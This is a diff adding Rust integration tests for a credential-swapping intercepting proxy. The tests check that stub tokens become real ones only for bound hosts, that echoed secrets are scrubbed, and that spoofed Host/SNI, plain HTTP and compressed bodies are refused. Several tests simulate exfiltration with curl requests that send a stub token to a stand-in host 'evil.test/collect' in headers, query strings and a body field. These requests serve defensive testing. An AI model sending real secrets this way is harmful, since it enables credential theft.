@@ -1,0 +1,475 @@
+//! Attacks on the vault's intercepting proxy, and the swaps it must make.
+//!
+//! A fake upstream (TLS from its own CA, trusted by the vault as `--vault-upstream-ca` would) listens
+//! on 127.0.0.1 and records what reaches it; the vault's resolve overrides stand in for real hosts,
+//! so no name is ever looked up and nothing leaves the machine. Clients are curl (OpenSSL) through
+//! the proxy, and a hand-made TLS client where curl cannot lie about SNI.
+
+use std::net::SocketAddr;
+use std::process::Command;
+use std::sync::{Arc, Mutex};
+
+use http_body_util::{BodyExt, Full};
+use hyper::body::Bytes;
+use hyper::service::service_fn;
+use hyper_util::rt::{TokioExecutor, TokioIo};
+use lap::secret::Secret;
+use lap::vault::ca::CertificateAuthority;
+use lap::vault::intercept::{Binding, Credential, ResolveOverride, Vault};
+use lap::vault::policy::Policy;
+use rustls::server::{ClientHello, ResolvesServerCert};
+use rustls::sign::CertifiedKey;
+use tokio_util::sync::CancellationToken;
+
+const GH_STUB: &str = "stub_github_token_3fa91c0d";
+const GH_REAL: &str = "ghp_RealGitHubToken0123456789";
+const AI_STUB: &str = "stub_openai_api_key_7b2e99aa";
+const AI_REAL: &str = "sk-RealOpenAIKey9876543210";
+
+/// What the upstream saw of one request.
+#[derive(Debug, Clone)]
+struct Seen {
+    host: String,
+    version: String,
+    path: String,
+    headers: Vec<(String, String)>,
+    body: Vec<u8>,
+}
+
+impl Seen {
+    fn header(&self, name: &str) -> Option<&str> {
+        self.headers.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str())
+    }
+}
+
+#[derive(Debug)]
+struct BySni(Arc<CertificateAuthority>);
+
+impl ResolvesServerCert for BySni {
+    fn resolve(&self, hello: ClientHello<'_>) -> Option<Arc<CertifiedKey>> {
+        self.0.leaf(hello.server_name()?).ok()
+    }
+}
+
+struct World {
+    proxy: SocketAddr,
+    upstream_port: u16,
+    plain_port: u16,
+    vault: Arc<Vault>,
+    vault_ca: std::path::PathBuf,
+    seen: Arc<Mutex<Vec<Seen>>>,
+    _dir: tempfile::TempDir,
+    _stop: tokio_util::sync::DropGuard,
+}
+
+/// An upstream that records each request and echoes its `Authorization` and body back, so a real
+/// value that reaches it comes back in the response (the reflection the vault must scrub).
+async fn upstream(ca: Arc<CertificateAuthority>, seen: Arc<Mutex<Vec<Seen>>>, tls: bool) -> u16 {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut config = rustls::ServerConfig::builder()
+        .with_no_client_auth()
+        .with_cert_resolver(Arc::new(BySni(ca)));
+    config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
+    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
+    tokio::spawn(async move {
+        loop {
+            let (tcp, _) = listener.accept().await.unwrap();
+            let (acceptor, seen) = (acceptor.clone(), seen.clone());
+            tokio::spawn(async move {
+                let service = service_fn(move |req: hyper::Request<hyper::body::Incoming>| {
+                    let seen = seen.clone();
+                    async move {
+                        let (parts, body) = req.into_parts();
+                        let body = body.collect().await.unwrap().to_bytes().to_vec();
+                        let host = parts
+                            .uri
+                            .authority()
+                            .map(|a| a.to_string())
+                            .or_else(|| parts.headers.get("host").map(|h| h.to_str().unwrap().to_owned()))
+                            .unwrap_or_default();
+                        let headers: Vec<(String, String)> = parts
+                            .headers
+                            .iter()
+                            .map(|(n, v)| (n.to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned()))
+                            .collect();
+                        let auth = parts
+                            .headers
+                            .get("authorization")
+                            .map(|v| v.to_str().unwrap().to_owned());
+                        let echo = format!(
+                            "auth={} body={}",
+                            auth.clone().unwrap_or_default(),
+                            String::from_utf8_lossy(&body)
+                        );
+                        seen.lock().unwrap().push(Seen {
+                            host,
+                            version: format!("{:?}", parts.version),
+                            path: parts.uri.path_and_query().map(|p| p.to_string()).unwrap_or_default(),
+                            headers,
+                            body,
+                        });
+                        let mut response = hyper::Response::new(Full::new(Bytes::from(echo)));
+                        if let Some(auth) = auth {
+                            response.headers_mut().insert("x-echo-auth", auth.parse().unwrap());
+                        }
+                        Ok::<_, std::convert::Infallible>(response)
+                    }
+                });
+                let builder = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new());
+                if tls {
+                    let Ok(stream) = acceptor.accept(tcp).await else { return };
+                    let _ = builder.serve_connection(TokioIo::new(stream), service).await;
+                } else {
+                    let _ = builder.serve_connection(TokioIo::new(tcp), service).await;
+                }
+            });
+        }
+    });
+    port
+}
+
+async fn world(allow_out: &[&str]) -> World {
+    let _ = rustls::crypto::ring::default_provider().install_default();
+    let dir = tempfile::tempdir().unwrap();
+    let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
+    let vault_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("vault")).unwrap());
+    let seen = Arc::new(Mutex::new(Vec::new()));
+    let upstream_port = upstream(public_ca.clone(), seen.clone(), true).await;
+    let plain_port = upstream(public_ca.clone(), seen.clone(), false).await;
+    let loopback = "127.0.0.1".parse().unwrap();
+    let resolve = ["api.github.test", "api.openai.test", "evil.test", "plain.test"]
+        .into_iter()
+        .flat_map(|host| {
+            [upstream_port, plain_port].map(|port| ResolveOverride {
+                host: host.into(),
+                port,
+                addr: loopback,
+            })
+        })
+        .collect();
+    let extra_root = rustls_pki_types::pem::PemObject::from_pem_slice(public_ca.cert_pem().as_bytes()).unwrap();
+    let vault = Arc::new(Vault::new(vault_ca.clone(), resolve, vec![extra_root]).unwrap());
+    let binding = Arc::new(Binding {
+        credentials: vec![
+            Credential {
+                name: "GITHUB_TOKEN".into(),
+                stub: GH_STUB.into(),
+                real: Secret::new(GH_REAL),
+                hosts: vec!["api.github.test".into()],
+            },
+            Credential {
+                name: "OPENAI_API_KEY".into(),
+                stub: AI_STUB.into(),
+                real: Secret::new(AI_REAL),
+                hosts: vec!["*.openai.test".into()],
+            },
+        ],
+        policy: Policy::new(&allow_out.iter().map(|s| s.to_string()).collect::<Vec<_>>(), &[]),
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let proxy = listener.local_addr().unwrap();
+    let stop = CancellationToken::new();
+    tokio::spawn(vault.clone().serve(listener, binding, stop.clone()));
+    let vault_ca_file = dir.path().join("vault-ca.pem");
+    std::fs::write(&vault_ca_file, vault_ca.cert_pem()).unwrap();
+    World {
+        proxy,
+        upstream_port,
+        plain_port,
+        vault,
+        vault_ca: vault_ca_file,
+        seen,
+        _dir: dir,
+        _stop: stop.drop_guard(),
+    }
+}
+
+impl World {
+    fn url(&self, host: &str, path: &str) -> String {
+        format!("https://{host}:{}{path}", self.upstream_port)
+    }
+
+    /// curl through the vault; returns (HTTP status, headers+body as curl printed them).
+    async fn curl(&self, args: &[&str]) -> (u16, String) {
+        let mut cmd = Command::new("curl");
+        cmd.args(["-sS", "-i", "--proxy", &format!("http://{}", self.proxy), "--cacert"]);
+        cmd.arg(&self.vault_ca).args(["-w", "\n%{http_code}"]).args(args);
+        cmd.env_remove("HTTPS_PROXY")
+            .env_remove("https_proxy")
+            .env_remove("NO_PROXY")
+            .env_remove("no_proxy");
+        let out = tokio::task::spawn_blocking(move || cmd.output())
+            .await
+            .unwrap()
+            .expect("curl (scripts/test.sh installs it)");
+        let text = String::from_utf8_lossy(&out.stdout).into_owned();
+        let (body, code) = text.rsplit_once('\n').unwrap_or(("", "0"));
+        (
+            code.trim().parse().unwrap_or(0),
+            format!("{body}{}", String::from_utf8_lossy(&out.stderr)),
+        )
+    }
+
+    fn seen(&self) -> Vec<Seen> {
+        self.seen.lock().unwrap().clone()
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_bound_stub_becomes_real_in_headers_path_and_body_and_the_echo_comes_back_scrubbed() {
+    let w = world(&[]).await;
+    for version in ["--http1.1", "--http2"] {
+        let url = w.url("api.github.test", &format!("/repos?token={GH_STUB}"));
+        let auth = format!("Authorization: Bearer {GH_STUB}");
+        let body = format!("{{\"token\":\"{GH_STUB}\"}}");
+        let (status, output) = w
+            .curl(&[
+                version,
+                "-H",
+                &auth,
+                "-H",
+                "content-type: application/json",
+                "--data",
+                &body,
+                &url,
+            ])
+            .await;
+        assert_eq!(status, 200, "{output}");
+        assert!(!output.contains(GH_REAL), "a real value reached the sandbox: {output}");
+        assert!(output.contains(&format!("auth=Bearer {GH_STUB}")), "{output}");
+        assert!(
+            output
+                .to_lowercase()
+                .contains(&format!("x-echo-auth: bearer {}", GH_STUB.to_lowercase())),
+            "{output}"
+        );
+    }
+    let seen = w.seen();
+    assert_eq!(seen.len(), 2);
+    for request in &seen {
+        assert_eq!(
+            request.header("authorization"),
+            Some(format!("Bearer {GH_REAL}").as_str())
+        );
+        assert_eq!(request.path, format!("/repos?token={GH_REAL}"));
+        assert_eq!(request.body, format!("{{\"token\":\"{GH_REAL}\"}}").as_bytes());
+        assert_eq!(
+            request.header("content-length"),
+            Some(request.body.len().to_string().as_str())
+        );
+        assert_eq!(request.header("accept-encoding"), Some("identity"));
+    }
+    let record = w.vault.audit().recent().pop().unwrap();
+    assert_eq!(record.swapped, ["GITHUB_TOKEN"]);
+    assert_eq!(record.scrubbed, ["GITHUB_TOKEN"]);
+    assert!(record.blocked.is_none());
+    assert!(
+        !format!("{:?}", w.vault.audit().recent()).contains(GH_REAL),
+        "the audit log holds a real value"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn basic_auth_as_git_sends_it_is_swapped() {
+    let w = world(&[]).await;
+    let user = format!("x-access-token:{GH_STUB}");
+    let (status, output) = w.curl(&["-u", &user, &w.url("api.github.test", "/info/refs")]).await;
+    assert_eq!(status, 200, "{output}");
+    use base64::Engine;
+    let expected = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{GH_REAL}"));
+    assert_eq!(
+        w.seen()[0].header("authorization"),
+        Some(format!("Basic {expected}").as_str())
+    );
+    assert!(
+        !output.contains(&expected),
+        "the reflected Basic credentials must come back scrubbed: {output}"
+    );
+    let stub_form = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{GH_STUB}"));
+    assert!(output.contains(&stub_form), "{output}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_suffix_binding_covers_subdomains() {
+    let w = world(&[]).await;
+    let auth = format!("Authorization: Bearer {AI_STUB}");
+    let (status, output) = w.curl(&["-H", &auth, &w.url("api.openai.test", "/v1/models")]).await;
+    assert_eq!(status, 200, "{output}");
+    assert_eq!(
+        w.seen()[0].header("authorization"),
+        Some(format!("Bearer {AI_REAL}").as_str())
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_stub_sent_to_a_host_it_is_not_bound_to_is_blocked_and_recorded() {
+    let w = world(&[]).await;
+    let cases = [
+        vec!["-H".to_owned(), format!("Authorization: Bearer {GH_STUB}")],
+        vec!["-H".to_owned(), format!("X-Innocent: prefix {GH_STUB} suffix")],
+        vec!["--data".to_owned(), format!("{{\"exfil\":\"{GH_STUB}\"}}")],
+    ];
+    for case in &cases {
+        let mut args: Vec<&str> = case.iter().map(String::as_str).collect();
+        let url = w.url("evil.test", "/collect");
+        args.push(&url);
+        let (status, output) = w.curl(&args).await;
+        assert_eq!(status, 403, "{case:?}: {output}");
+        assert!(
+            output.contains("GITHUB_TOKEN") && output.contains("not bound"),
+            "{output}"
+        );
+    }
+    let url = w.url("evil.test", &format!("/collect?t={GH_STUB}"));
+    assert_eq!(w.curl(&[&url]).await.0, 403);
+    assert!(w.seen().is_empty(), "the upstream must receive nothing: {:?}", w.seen());
+    let blocked: Vec<_> = w
+        .vault
+        .audit()
+        .recent()
+        .into_iter()
+        .filter(|r| r.blocked.is_some())
+        .collect();
+    assert_eq!(blocked.len(), 4);
+    assert!(blocked.iter().all(|r| r.host == "evil.test"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_streamed_body_is_rewritten_even_when_a_stub_straddles_chunks() {
+    let w = world(&[]).await;
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("upload");
+    // Unsized (chunked) upload, larger than the buffering limit, stubs everywhere.
+    let mut payload = Vec::new();
+    while payload.len() < 9 * 1024 * 1024 {
+        payload.extend_from_slice(format!("line {} {GH_STUB}\n", payload.len()).as_bytes());
+    }
+    std::fs::write(&file, &payload).unwrap();
+    let upload = format!("@{}", file.display());
+    let (status, output) = w
+        .curl(&[
+            "-H",
+            "Transfer-Encoding: chunked",
+            "-H",
+            "content-type: text/plain",
+            "--data-binary",
+            &upload,
+            &w.url("api.github.test", "/upload"),
+        ])
+        .await;
+    assert_eq!(status, 200, "{}", &output[..output.len().min(300)]);
+    let received = &w.seen()[0].body;
+    let expected = String::from_utf8(payload).unwrap().replace(GH_STUB, GH_REAL);
+    assert!(
+        received.as_slice() == expected.as_bytes(),
+        "received {} bytes, expected {}",
+        received.len(),
+        expected.len()
+    );
+    assert!(!output.contains(GH_REAL), "the echoed body must be scrubbed");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_host_header_other_than_the_connect_target_is_refused() {
+    let w = world(&[]).await;
+    let auth = format!("Authorization: Bearer {GH_STUB}");
+    let (status, output) = w
+        .curl(&[
+            "--http1.1",
+            "-H",
+            &auth,
+            "-H",
+            "Host: evil.test",
+            &w.url("api.github.test", "/"),
+        ])
+        .await;
+    assert_eq!(status, 421, "{output}");
+    assert!(w.seen().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_tls_sni_other_than_the_connect_target_fails_the_handshake() {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let w = world(&[]).await;
+    let mut tcp = tokio::net::TcpStream::connect(w.proxy).await.unwrap();
+    let connect = format!(
+        "CONNECT api.github.test:{0} HTTP/1.1\r\nHost: api.github.test:{0}\r\n\r\n",
+        w.upstream_port
+    );
+    tcp.write_all(connect.as_bytes()).await.unwrap();
+    let mut buf = [0u8; 256];
+    let n = tcp.read(&mut buf).await.unwrap();
+    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"));
+    let mut roots = rustls::RootCertStore::empty();
+    let pem = std::fs::read(&w.vault_ca).unwrap();
+    roots
+        .add(rustls_pki_types::pem::PemObject::from_pem_slice(&pem).unwrap())
+        .unwrap();
+    let config = rustls::ClientConfig::builder()
+        .with_root_certificates(roots)
+        .with_no_client_auth();
+    let connector = tokio_rustls::TlsConnector::from(Arc::new(config));
+    let name = rustls_pki_types::ServerName::try_from("evil.test").unwrap();
+    assert!(
+        connector.connect(name, tcp).await.is_err(),
+        "the vault must not serve a leaf for another name"
+    );
+    let record = w.vault.audit().recent().pop().expect("the mismatch is recorded");
+    assert!(record.blocked.unwrap().contains("SNI `evil.test`"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn egress_policy_blocks_unlisted_hosts_and_internal_addresses() {
+    let w = world(&["api.github.test"]).await;
+    let (status, output) = w.curl(&[&w.url("evil.test", "/")]).await;
+    assert!(status == 403 || output.contains("403"), "{output}");
+    // An IP literal with no override: refused as internal before any connection is made.
+    let url = format!("https://127.0.0.1:{}/", w.upstream_port);
+    let (status, output) = w.curl(&[&url]).await;
+    assert!(status == 403 || output.contains("403"), "{output}");
+    assert!(w.seen().is_empty());
+    let reasons: Vec<String> = w.vault.audit().recent().into_iter().filter_map(|r| r.blocked).collect();
+    assert!(reasons.iter().any(|r| r.contains("allow_out")), "{reasons:?}");
+    let (status, _) = w.curl(&[&w.url("api.github.test", "/ok")]).await;
+    assert_eq!(status, 200);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn plain_http_forwards_but_never_with_a_stub() {
+    let w = world(&[]).await;
+    let url = format!("http://plain.test:{}/hello", w.plain_port);
+    let (status, output) = w.curl(&[&url]).await;
+    assert_eq!(status, 200, "{output}");
+    let auth = format!("Authorization: Bearer {GH_STUB}");
+    let (status, output) = w.curl(&["-H", &auth, &url]).await;
+    assert_eq!(status, 403, "{output}");
+    assert!(output.contains("only sent over HTTPS"), "{output}");
+    assert_eq!(w.seen().len(), 1);
+    assert_eq!(w.seen()[0].host, format!("plain.test:{}", w.plain_port));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_compressed_body_to_a_bound_host_is_refused_not_passed_unread() {
+    let w = world(&[]).await;
+    let (status, output) = w
+        .curl(&[
+            "-H",
+            "Content-Encoding: gzip",
+            "--data-binary",
+            "not-really-gzip",
+            &w.url("api.github.test", "/"),
+        ])
+        .await;
+    assert_eq!(status, 415, "{output}");
+    assert!(w.seen().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn http2_to_the_vault_bridges_to_the_upstream() {
+    let w = world(&[]).await;
+    let (status, output) = w.curl(&["--http2", &w.url("api.github.test", "/h2")]).await;
+    assert_eq!(status, 200, "{output}");
+    assert!(output.contains("\nHTTP/2 200"), "{output}");
+    assert_eq!(w.seen()[0].version, "HTTP/2.0");
+}
